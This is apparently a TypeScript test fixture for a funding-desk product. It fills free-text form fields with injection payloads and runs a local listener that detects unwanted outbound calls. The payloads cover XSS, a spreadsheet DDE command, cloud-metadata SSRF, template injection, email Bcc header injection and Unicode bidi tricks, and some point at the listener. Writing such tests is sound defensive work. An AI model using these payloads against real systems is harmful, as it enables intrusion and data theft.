import { once } from 'node:events';
import { createServer } from 'node:net';
import { FIELDS, type FieldDefinition } from '@funding-desk/shared/fields/catalogue';

/** Fields that accept free text. */
export const FREE_FIELDS: readonly FieldDefinition[] = FIELDS.filter(({ kind }) =>
  ['text', 'longText', 'url'].includes(kind),
);

/** Each text is an attack on a page, a header, a cell or a request. @param address address of a listener */
const waysIn = (address: string): readonly string[] => [
  `<img src="${address}/i" onerror="window.fdHit=1">`,
  `=HYPERLINK("${address}","x")`,
  '"><script>window.fdHit=1</script>',
  `@SUM(1+1)*cmd|'/c calc'!A0`,
  '<svg onload=window.fdHit=1>',
  `+1;<a href="javascript:window.fdHit=1">`,
  'http://169.254.169.254/latest/meta-data/',
  `-2+3|<iframe src="${address}/f">`,
  "'; window.fdHit=1; //{{7*7}}#{7*7}",
  `=?utf-8?Q?=0D=0ABcc:_victim@collector.example?=`,
  `${address}/fetch?me=1`,
  '\u202e<b>txet\u2028</b>',
];

/** A hostile text for every free field, within its length. Other fields stay unchanged. */
export function hostileValues(address: string): Record<string, string> {
  const ways = waysIn(address);
  return Object.fromEntries(
    FREE_FIELDS.map(({ name, maxLength }, index) => [name, (ways[index % ways.length] ?? '').slice(0, maxLength)]),
  );
}

/** A server that no part of the product should ever call. */
export interface Collector {
  /** `http://127.0.0.1:port`. */
  readonly url: string;
  /** Number of connections. */
  readonly connections: () => number;
  readonly close: () => void;
}

export async function startCollector(): Promise<Collector> {
  let count = 0;
  const server = createServer((socket) => {
    count += 1;
    socket.on('error', () => undefined).end('HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}');
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('The collector has no port');
  return { url: `http://127.0.0.1:${address.port}`, connections: () => count, close: () => void server.close() };
}
